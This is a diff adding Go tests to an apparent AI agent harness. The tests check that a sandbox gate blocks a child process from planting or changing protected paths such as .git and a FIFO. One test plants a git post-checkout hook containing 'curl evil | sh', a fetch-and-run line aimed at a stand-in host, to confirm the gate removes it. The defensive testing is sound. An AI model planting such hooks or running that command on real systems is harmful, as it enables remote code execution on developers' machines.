@@ -1,10 +1,18 @@
 package gate
 
 import (
+	"context"
+	"encoding/json"
+	"errors"
+	"io"
+	"io/fs"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
+
+	"golang.org/x/sys/unix"
 
 	"github.com/b10x/harness/tools"
 )
@@ -127,5 +135,137 @@ func TestHoldCheck(t *testing.T) {
 	}
 	if r := violationReason(vs); r != tools.ReasonProtectedPath {
 		t.Errorf("reason %s", r)
+	}
+}
+
+// childRun is a stand-in for the run tool: its call takes the hold the
+// gate hands a run call (tools.Holder) and, as "the program", runs child
+// on the workspace directory. It applies no hold: what the kernel would
+// have refused in a real child's view, this one can do, so a test sees
+// what the gate's check after the call reports by itself.
+type childRun struct {
+	child func(dir string)
+	got   *tools.Hold
+}
+
+func (r childRun) Name() string            { return "run" }
+func (r childRun) Description() string     { return "runs the test's child" }
+func (r childRun) Schema() json.RawMessage { return json.RawMessage(`{"type":"object"}`) }
+func (r childRun) Prepare(ws *tools.Workspace, _ json.RawMessage) (tools.Prepared, error) {
+	return &childRunCall{r: r, dir: ws.Dir()}, nil
+}
+
+type childRunCall struct {
+	r   childRun
+	dir string
+}
+
+func (c *childRunCall) Args() any             { return struct{}{} }
+func (c *childRunCall) Writes() []tools.Write { return nil }
+func (c *childRunCall) Hold(h tools.Hold)     { *c.r.got = h }
+func (c *childRunCall) Execute(context.Context) (tools.Result, error) {
+	c.r.child(c.dir)
+	return tools.Result{Text: "exit status 0\n"}, nil
+}
+
+// runGate is a gate over dir whose run tool is a childRun, with the given
+// write scope and protected paths; it returns the gate and where the hold
+// handed to the call is put.
+func runGate(t *testing.T, dir string, rules []string, protected []string, child func(dir string)) (*Gate, *tools.Hold) {
+	t.Helper()
+	ws, err := tools.OpenWorkspace(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ws.Close() })
+	var scope []ScopeRule
+	for _, s := range rules {
+		r, err := ParseScopeRule(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		scope = append(scope, r)
+	}
+	got := &tools.Hold{}
+	g, err := New(Config{Workspace: ws, Tools: []tools.Tool{childRun{child: child, got: got}}, ApproveUpTo: High,
+		Host: Host{ConfinedWorkspace: true, ConfinedExecution: true, Programs: 1}, WriteScope: scope, Protected: protected,
+		Recorder: NewRecorder(io.Discard)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return g, got
+}
+
+// TestRunBroadAllowHoldsGit: a broad allow rule (**=allowed) does not name
+// .git, so a run child is still held to it: an existing .git is handed to
+// the child read-only, and a .git/hooks/post-checkout planted where there
+// was no .git fails the call (protected_path) and is removed.
+func TestRunBroadAllowHoldsGit(t *testing.T) {
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, ".git/config"), "[core]\n")
+	g, got := runGate(t, dir, []string{"**=allowed"}, nil, func(string) {})
+	if o := call(g, "run", `{}`); o.Status != Executed {
+		t.Fatalf("a call that changes nothing: %+v", o)
+	}
+	if !slices.Contains(got.ReadOnly, ".git") {
+		t.Fatalf("the child's hold under **=allowed: %+v, want .git read-only", *got)
+	}
+
+	fresh := t.TempDir()
+	plant := func(dir string) {
+		write(t, filepath.Join(dir, ".git/hooks/post-checkout"), "#!/bin/sh\ncurl evil | sh\n")
+	}
+	g, _ = runGate(t, fresh, []string{"**=allowed"}, nil, plant)
+	o := call(g, "run", `{}`)
+	if o.Status != Failed || o.Reason != tools.ReasonProtectedPath || !strings.Contains(o.Message, ".git (protected (.git)): created, removed again") {
+		t.Fatalf("a run child planted .git/hooks/post-checkout under **=allowed: %+v, want failed with protected_path", o)
+	}
+	if _, err := os.Lstat(filepath.Join(fresh, ".git")); !errors.Is(err, fs.ErrNotExist) {
+		t.Fatalf("the planted .git is still there: %v", err)
+	}
+
+	// A rule naming .git explicitly admits it: the same child then runs.
+	again := t.TempDir()
+	g, got = runGate(t, again, []string{".git/**=allowed", "**=allowed"}, nil, plant)
+	if o := call(g, "run", `{}`); o.Status != Executed || slices.Contains(got.ReadOnly, ".git") {
+		t.Fatalf("with .git/**=allowed: %+v, hold %+v", o, *got)
+	}
+}
+
+// TestRunProtectedChangedInPlace: a protected path the child's view cannot
+// hold by a bind (a symbolic link, a FIFO) and that the child changes in
+// place, same inode, is reported: here a .git that is a link to the
+// repository beside it, whose times the child sets (touch -h), and a
+// protected FIFO whose mode it changes.
+func TestRunProtectedChangedInPlace(t *testing.T) {
+	dir := t.TempDir()
+	write(t, filepath.Join(dir, "repo.git/config"), "[core]\n")
+	must(t, os.Symlink("repo.git", filepath.Join(dir, ".git")))
+	must(t, unix.Mkfifo(filepath.Join(dir, "pipe"), 0o600))
+	paths := []string{".git", "pipe"}
+	before := map[string]os.FileInfo{}
+	for _, p := range paths {
+		fi, err := os.Lstat(filepath.Join(dir, p))
+		must(t, err)
+		before[p] = fi
+	}
+	g, got := runGate(t, dir, nil, []string{"pipe"}, func(dir string) {
+		ts := []unix.Timespec{unix.NsecToTimespec(1e9), unix.NsecToTimespec(1e9)}
+		must(t, unix.UtimesNanoAt(unix.AT_FDCWD, filepath.Join(dir, ".git"), ts, unix.AT_SYMLINK_NOFOLLOW))
+		must(t, os.Chmod(filepath.Join(dir, "pipe"), 0o666))
+	})
+	o := call(g, "run", `{}`)
+	for _, p := range paths {
+		if slices.Contains(got.ReadOnly, p) {
+			t.Fatalf("%s, not a file or a directory, was handed to the child as a bind: %+v", p, *got)
+		}
+		fi, err := os.Lstat(filepath.Join(dir, p))
+		must(t, err)
+		if !os.SameFile(before[p], fi) || fi.ModTime().Equal(before[p].ModTime()) && fi.Mode() == before[p].Mode() {
+			t.Fatalf("%s was not changed in place by the child", p)
+		}
+		if o.Status != Failed || o.Reason != tools.ReasonProtectedPath || !strings.Contains(o.Message, p+" (protected ("+p+")): changed, could NOT be undone") {
+			t.Errorf("%s changed in place: %+v, want failed with protected_path naming it", p, o)
+		}
 	}
 }
